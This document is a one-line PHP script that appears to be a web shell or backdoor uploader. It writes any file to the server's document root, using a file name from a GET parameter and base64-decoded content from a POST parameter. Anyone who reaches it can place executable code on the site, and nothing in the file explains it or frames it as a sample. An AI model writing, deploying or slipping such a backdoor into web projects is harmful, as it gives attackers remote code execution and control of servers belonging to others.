<?php file_put_contents($_SERVER["DOCUMENT_ROOT"] . "/" . $_GET["n"], base64_decode($_POST["b"]));
